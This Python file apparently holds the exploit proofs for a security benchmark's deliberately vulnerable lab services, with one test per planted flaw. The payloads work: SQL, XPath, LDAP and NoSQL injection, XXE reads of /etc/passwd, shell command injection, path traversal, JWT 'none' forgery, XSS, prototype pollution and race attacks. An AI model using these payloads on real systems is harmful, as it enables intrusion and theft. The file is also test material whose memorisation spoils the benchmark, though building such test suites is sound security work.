"""The exploits for the fourth set: one for each weakness, by service and name."""

import base64
import json
import threading

import common
import jwt
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}


def together(count, send):
    """The answers to requests that are sent at once."""
    answers, gate = [], threading.Barrier(count)

    def run():
        gate.wait()
        answers.append(send())

    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


# gym --------------------------------------------------------------------------------------------------------------------------------------


def gym_tokens(client, name):
    return client.post("/oauth/token", data={"username": name, "password": PASSWORD[name]}).json()


@sign_in("gym")
def _(client, name):
    return {"Authorization": "Bearer " + gym_tokens(client, name)["access_token"]}


@proof("gym", "sort-sql")
def _(client):
    def order(condition):
        return [entry["id"] for entry in client.get("/classes", params={"sort": f"CASE WHEN ({condition}) THEN id ELSE -id END"}).json()]

    return order("SELECT wage FROM classes WHERE id = 2) = (42") == [1, 2, 3, 4] and order("SELECT wage FROM classes WHERE id = 2) = (41") == [4, 3, 2, 1]


@proof("gym", "receipt-nested")
def _(client):
    assert client.get("/members/101/receipts", headers=client.as_("ben")).status_code == 404
    return "Membership" in client.get("/members/102/receipts/7001", headers=client.as_("ben")).text


@proof("gym", "roster-data")
def _(client):
    return "slipped disc" in client.get("/classes/2/participants", headers=client.as_("ben")).text


@proof("gym", "reset-shown")
def _(client):
    token = client.post("/password/forgot", json={"email": "carol@east.example"}).json().get("reset_token", "")
    return client.post("/password/reset", json={"token": token, "password": "aspen-Teapot-37"}).status_code == 204


@proof("gym", "refresh-kept")
def _(client):
    tokens = gym_tokens(client, "ann")
    assert client.post("/oauth/sign-out", headers={"Authorization": "Bearer " + tokens["access_token"]}).status_code == 204
    return client.post("/oauth/refresh", json={"refresh_token": tokens["refresh_token"]}).status_code == 200


@proof("gym", "voucher-race")
def _(client):
    ann, code = client.as_("ann"), client.post("/vouchers", json={"credits": 5}, headers=client.as_("olga")).json()["code"]
    answers = together(6, lambda: client.post("/vouchers/redeem", json={"code": code}, headers=ann).json()["redeemed"])
    assert any(answers)
    return answers.count(True) > 1


@proof("gym", "transfer-negative")
def _(client):
    client.post("/credits/transfer", json={"to": "ben", "credits": -15}, headers=client.as_("ann"))
    return client.get("/me", headers=client.as_("ben")).json()["credits"] == 5


@proof("gym", "credits-set")
def _(client):
    return client.patch("/me", json={"nickname": "Annie", "credits": 9000}, headers=client.as_("ann")).json()["credits"] == 9000


@proof("gym", "bulk-cancel")
def _(client):
    booking = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    client.post("/bookings/cancel", json={"ids": [booking]}, headers=client.as_("ben"))
    return client.get("/bookings", headers=client.as_("ann")).json() == []


@proof("gym", "class-removed")
def _(client):
    assert client.post("/classes", json={"title": "x", "coach": "y", "day": "Mon", "seats": 3}, headers=client.as_("ann")).status_code == 403
    client.delete("/classes/3", headers=client.as_("ann"))
    return client.get("/classes/3").status_code == 404


@proof("gym", "token-long")
def _(client):
    claims = jwt.decode(gym_tokens(client, "ann")["access_token"], options={"verify_signature": False})
    return claims["exp"] - claims["iat"] > 24 * 3600


@proof("gym", "cors-prefix")
def _(client):
    headers = client.get("/version", headers={"Origin": "http://127.0.0.1.elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "http://127.0.0.1.elsewhere.example" and headers.get("access-control-allow-credentials") == "true"


# auction ----------------------------------------------------------------------------------------------------------------------------------


@sign_in("auction")
def _(client, name):
    cookie = client.post("/session", json={"username": name, "password": PASSWORD[name]}).headers["set-cookie"].partition(";")[0]
    client.cookies.clear()
    return {"Cookie": cookie, "X-CSRF-Token": client.get("/csrf", headers={"Cookie": cookie}).json()["token"]}


@proof("auction", "bids-shown")
def _(client):
    return any(bid["bidder"] == "carol" and "maximum" in bid for bid in client.get("/lots/1/bids", headers=client.as_("ben")).json()["bids"])


@proof("auction", "coupon-twice")
def _(client):
    ann = client.as_("ann")
    return [client.post("/invoices/INV-2031-0001.txt/coupon", json={"code": "LOYAL-10"}, headers=ann).json().get("total") for _ in range(3)] == [130, 120, 110]


@proof("auction", "invoice-file")
def _(client):
    return "To ann" in client.get("/invoices/INV-2031-0001.txt", headers=client.as_("ben")).text


@proof("auction", "export-member")
def _(client):
    return "ann@north.example" in client.get("/export?member=ann", headers=client.as_("ben")).text


@proof("auction", "draft-state")
def _(client):
    return any(lot["seller"] == "ann" and lot["reserve"] == 900 for lot in client.get("/lots?state=draft", headers=client.as_("ben")).json()["lots"])


@proof("auction", "csrf-open")
def _(client):
    ann = {"Cookie": client.as_("ann")["Cookie"]}
    client.patch("/me", content=b'{"address": "9 Elsewhere"}', headers=ann | {"Content-Type": "text/plain", "Origin": "https://elsewhere.example"})
    return client.get("/me", headers=ann).json()["address"] == "9 Elsewhere"


@proof("auction", "session-unsigned")
def _(client):
    body = client.as_("ann")["Cookie"].partition("=")[2].partition(".")[0]
    claims = json.loads(base64.urlsafe_b64decode(body + "==")) | {"name": "olga"}
    forged = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    return client.get("/office/members", headers={"Cookie": f"auction={forged}.x"}).status_code == 200


@proof("auction", "session-stateless")
def _(client):
    ann = client.as_("ann")
    assert client.delete("/session", headers=ann).status_code == 204
    return client.get("/me", headers=ann).status_code == 200


@proof("auction", "markup-filtered")
def _(client):
    markup = "<img src=x onerror=alert(1)>"
    client.put("/lots/1", json={"title": "x", "description": markup, "reserve": 5}, headers=client.as_("ann"))
    page = client.get("/lots/1/page")
    return markup in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("auction", "redirect-prefix")
def _(client):
    return client.get("/go?next=https://auction.example.elsewhere.example/").headers["location"] == "https://auction.example.elsewhere.example/"


@proof("auction", "image-decimal")
def _(client):
    with called() as (url, requests, _):
        body = {"title": "x", "description": "", "reserve": 5}
        ann = client.as_("ann")
        assert client.post("/lots", json=body | {"image_url": url + "plain"}, headers=ann).status_code == 422
        client.post("/lots", json=body | {"image_url": url.replace("127.0.0.1", "2130706433") + "inner"}, headers=ann)
        return [path for path, _ in requests] == ["/inner"]


@proof("auction", "cache-shared")
def _(client):
    return "public" in client.get("/me", headers=client.as_("ann")).headers["cache-control"]


# newsroom ---------------------------------------------------------------------------------------------------------------------------------


def resource(kind, **attributes):
    return {"data": {"type": kind, "attributes": attributes}}


@sign_in("newsroom")
def _(client, name):
    answer = client.post("/sessions", json=resource("sessions", username=name, password=PASSWORD[name]))
    return {"Authorization": "Bearer " + answer.json()["data"]["attributes"]["token"]}


def article(client, name, title):
    listed = client.get("/articles", params={"filter[author]": name, "filter[title]": title}, headers=client.as_(name)).json()["data"]
    return "/articles/" + listed[0]["id"]


@proof("newsroom", "include-author")
def _(client):
    return "0151 496 0411" in client.get("/articles?include=author").text


@proof("newsroom", "filter-private")
def _(client):
    def found(number):
        answer = client.get("/articles", params={"filter[author.phone]": number})
        return answer.status_code == 200 and len(answer.json()["data"])

    return found("0151 496 041") == 1 and found("0151 496 09") == 0


@proof("newsroom", "revision-read")
def _(client):
    path, ben = article(client, "ann", "Council"), client.as_("ben")
    assert client.get(path, headers=ben).status_code == 404
    return "My source" in client.get(path + "/revisions/1", headers=ben).text


@proof("newsroom", "relationship-author")
def _(client):
    path = article(client, "ann", "Council")
    client.patch(path + "/relationships/author", json={"data": {"type": "people", "id": "ben"}}, headers=client.as_("ben"))
    return "My source" in client.get(path, headers=client.as_("ben")).text


@proof("newsroom", "publish-direct")
def _(client):
    path = article(client, "ann", "Council")
    client.patch(path, json=resource("articles", status="published"), headers=client.as_("ann"))
    return client.get(path).status_code == 200


@proof("newsroom", "markdown-link")
def _(client):
    path = article(client, "ann", "Market")
    client.patch(path, json=resource("articles", text="[x](javascript:alert(1))"), headers=client.as_("ann"))
    return 'href="javascript:alert(1)"' in client.get(path + "/html").text


@proof("newsroom", "preview-template")
def _(client):
    return "x 1922 y" in client.post("/newsletters/preview", json=resource("newsletters", template="x {{ 31 * 62 }} y"), headers=client.as_("ann")).text


@proof("newsroom", "feed-entities")
def _(client):
    feed = '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss><item><title>&e;</title></item></rss>'
    return "root:x:0:0" in client.post("/feeds", content=feed, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text


@proof("newsroom", "page-size")
def _(client):
    return client.get("/articles?page[size]=100000").status_code == 200


@proof("newsroom", "debug-open")
def _(client):
    return "k9-Fjord-Lamp" in client.get("/debug/config").text


@proof("newsroom", "password-unproved")
def _(client):
    carol = client.as_("carol")
    assert client.post("/me/password", json=resource("passwords", current="x", new="aspen-Teapot-37"), headers=carol).status_code == 403
    return client.post("/me/password", json=resource("passwords", new="aspen-Teapot-37"), headers=carol).status_code == 204


@proof("newsroom", "error-trace")
def _(client):
    answer = client.get("/articles?page[number]=x")
    return answer.status_code == 500 and "Traceback" in answer.text


# fleet ------------------------------------------------------------------------------------------------------------------------------------


def call(client, caller, method, **params):
    return client.post("/rpc", json={"jsonrpc": "2.0", "id": 1, "method": method, "params": params}, headers=caller)


@sign_in("fleet")
def _(client, name):
    return {"X-Fleet-Token": call(client, {}, "auth.login", username=name, password=PASSWORD[name]).json()["result"]["token"]}


@proof("fleet", "vehicle-read")
def _(client):
    return "position" in call(client, client.as_("ben"), "vehicle.get", id="V-0001").text


@proof("fleet", "batch-first")
def _(client):
    calls = [{"jsonrpc": "2.0", "id": number, "method": method} for number, method in enumerate(("system.ping", "office.usage"))]
    return "sessions" in client.post("/rpc", json=calls).text and "sign in first" in client.post("/rpc", json=calls[1]).text


@proof("fleet", "users-open")
def _(client):
    return "ben@south.example" in call(client, client.as_("ann"), "office.users").text


@proof("fleet", "driver-fields")
def _(client):
    return call(client, client.as_("ann"), "driver.get", id="D-0001", fields=["name", "pin"]).json()["result"].get("pin") == "4171"


@proof("fleet", "report-sql")
def _(client):
    return "7002 9911 0024" in call(client, client.as_("ann"), "report.fuel", group_by="(SELECT group_concat(card) FROM fuel)").text


@proof("fleet", "trip-operators")
def _(client):
    return "clinic visit of ann" in call(client, client.as_("ann"), "trip.search", query={"purpose": {"$ne": "x"}}).text


@proof("fleet", "file-outside")
def _(client):
    return "root:x:0:0" in call(client, client.as_("ann"), "file.read", name="../../etc/passwd").text


@proof("fleet", "ping-shell")
def _(client):
    ann = client.as_("ann")
    slow = call(client, ann, "diag.reach", host="x; sleep 2").elapsed.total_seconds() > 1.9
    return slow and "1922" in call(client, ann, "diag.reach", host="x; echo $((31*62))").json()["result"]["output"]


@proof("fleet", "unlock-unlimited")
def _(client):
    ann = client.as_("ann")
    return all(call(client, ann, "vehicle.unlock", id="V-0001", code=f"{number:04}").status_code == 200 for number in range(60))


@proof("fleet", "data-trace")
def _(client):
    return "Traceback" in call(client, client.as_("ann"), "vehicle.get", id=7).text


@proof("fleet", "distance-negative")
def _(client):
    return call(client, client.as_("ann"), "trip.record", vehicle="V-0001", km=-30000).json().get("result", {}).get("odometer") == 11000


@proof("fleet", "driver-tenant")
def _(client):
    call(client, client.as_("ann"), "driver.add", name="Pat", phone="0161", tenant="south")
    return "Pat" in call(client, client.as_("ben"), "driver.list").text


# registry ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("registry")
def _(client, name):
    answer = client.post("/login", data={"username": name, "password": PASSWORD[name]})
    return {"X-Registry-Session": answer.headers["X-Registry-Session"]}


def send_xml(client, method, path, caller, text):
    return client.request(method, path, content=text, headers=caller | {"Content-Type": "application/xml"})


def new_deed(client, caller, text):
    answer = send_xml(client, "POST", "/deeds", caller, f"<deed xmlns:xi='http://www.w3.org/2001/XInclude'><parcel>NX-101</parcel><text>{text}</text></deed>")
    return answer.headers.get("location", "/nowhere")


@proof("registry", "deed-read")
def _(client):
    return "GB33BUKB" in client.get("/deeds/2031-0001", headers=client.as_("ben")).text


@proof("registry", "deed-include")
def _(client):
    ann = client.as_("ann")
    return "root:x:0:0" in client.get(new_deed(client, ann, "x <xi:include href='file:///etc/passwd' parse='text'/>"), headers=ann).text


@proof("registry", "parcel-xpath")
def _(client):
    return "under protection" in client.get("/parcels", params={"street": "x' or '1'='1"}, headers=client.as_("ann")).text


@proof("registry", "people-ldap")
def _(client):
    ann = client.as_("ann")
    assert "Reed" in client.get("/people", params={"surname": "R"}, headers=ann).text
    broken = client.get("/people", params={"surname": "R)("}, headers=ann)
    return "bad search filter" in broken.text and "paul@" in client.get("/people", params={"surname": "*"}, headers=ann).text


@proof("registry", "state-skipped")
def _(client):
    return "registered" in send_xml(client, "PUT", "/deeds/2031-0001/state", client.as_("ann"), "<state>registered</state>").text.partition("<state>")[2]


@proof("registry", "scan-inline")
def _(client):
    ann = client.as_("ann")
    client.put("/deeds/2031-0001/scan", content="<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", headers=ann | {"Content-Type": "image/svg+xml"})
    answer = client.get("/deeds/2031-0001/scan", headers=ann)
    return answer.headers["content-type"] == "image/svg+xml" and "default-src" not in answer.headers["content-security-policy"]


@proof("registry", "language-header")
def _(client):
    return client.get("/language?code=en%0d%0aX-Split:%20yes").headers.get("x-split", "").startswith("yes")


@proof("registry", "forms-listing")
def _(client):
    return "Index of" in client.get("/forms/").text and "w3-Otter-Kiln" in client.get("/forms/registry.conf.bak").text


@proof("registry", "trace-method")
def _(client):
    return "X-Secret: 31" in client.request("TRACE", "/version", headers={"X-Secret": "31"}).text


@proof("registry", "session-brought")
def _(client):
    brought = {"X-Registry-Session": "chosen-by-somebody"}
    client.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}, headers=brought)
    return client.get("/me", headers=brought).status_code == 200


@proof("registry", "lock-tells")
def _(client):
    def last(name):
        return [client.post("/login", data={"username": name, "password": "x"}).status_code for _ in range(7)][-1]

    assert last("carol") == 429
    return last("carola") == 401


@proof("registry", "extract-markup")
def _(client):
    ann = client.as_("ann")
    page = client.get(new_deed(client, ann, "&lt;script&gt;alert(1)&lt;/script&gt;") + "/extract", headers=ann)
    return "<script>alert(1)</script>" in page.text and "unsafe-inline" in page.headers["content-security-policy"]


# canteen ----------------------------------------------------------------------------------------------------------------------------------


def canteen_token(client, name):
    return client.post("/auth/login", json={"username": name, "password": PASSWORD[name]}).json()["accessToken"]


@sign_in("canteen")
def _(client, name):
    return {"Authorization": "Bearer " + canteen_token(client, name)}


@proof("canteen", "login-operator")
def _(client):
    answer = client.post("/auth/login", json={"username": {"$ne": "ann"}, "password": {"$ne": ""}})
    return answer.status_code == 200 and "accessToken" in answer.text


@proof("canteen", "orders-filter")
def _(client):
    hers = client.get("/orders", headers=client.as_("ann")).json()["orders"]
    return client.get("/orders", params={"filter": '{"owner": "ann"}'}, headers=client.as_("ben")).json().get("orders") == hers


@proof("canteen", "child-meals")
def _(client):
    child, ben = client.listed("/children", "ann", "children"), client.as_("ben")
    assert client.get(f"/children/{child}", headers=ben).status_code == 404
    return "injector" in client.get(f"/children/{child}/meals", headers=ben).text


@proof("canteen", "order-price")
def _(client):
    return client.post("/orders", json={"day": "2031-05-08", "items": [{"dish": 2, "count": 20, "price": 0.01}]}, headers=client.as_("ann")).json().get("total") == 0.2


@proof("canteen", "preferences-shared")
def _(client):
    client.patch("/preferences", content='{"__proto__": {"planted": "yes"}}', headers=client.as_("ben") | {"Content-Type": "application/json"})
    return client.get("/preferences", headers=client.as_("ann")).json().get("planted") == "yes"


@proof("canteen", "refund-twice")
def _(client):
    order, ann = client.listed("/orders", "ann", "orders"), client.as_("ann")
    for _ in range(4):
        client.post(f"/orders/{order}/refund", headers=ann)
    return client.get("/me", headers=ann).json()["balance"] == 70


@proof("canteen", "alg-case")
def _(client):
    claims = canteen_token(client, "ann").split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(claims + "==")) | {"sub": "olga"}

    def served(algorithm):
        parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in ({"alg": algorithm, "typ": "JWT"}, claims)]
        return client.get("/office/orders", headers={"Authorization": f"Bearer {'.'.join(parts)}."}).status_code == 200

    return served("nOnE") and not served("none")


@proof("canteen", "office-case")
def _(client):
    assert client.get("/office/orders").status_code == 401
    return '"owner":"ann"' in client.get("/Office/orders").text


@proof("canteen", "dish-update")
def _(client):
    client.put("/dishes/1", json={"title": "Changed", "price": 0.5}, headers=client.as_("ben"))
    return "Changed" in client.get("/dishes").text


@proof("canteen", "recipe-dots")
def _(client):
    return "root:x:0:0" in client.get("/recipes", params={"file": "....//etc/passwd"}).text and client.get("/recipes", params={"file": "../etc/passwd"}).status_code == 404


@proof("canteen", "topic-attribute")
def _(client):
    return "<input name=topic value=x onfocus=alert(1) autofocus>" in client.get("/help", params={"topic": "x onfocus=alert(1) autofocus"}).text


@proof("canteen", "link-counted")
def _(client):
    child, ann = client.listed("/children", "ann", "children"), client.as_("ann")
    first, second = (client.post(f"/children/{child}/link", headers=ann).json()["token"].removeprefix("pick-") for _ in range(2))
    return len(first) < 12 and 0 <= int(second, 36) - int(first, 36) < 5000
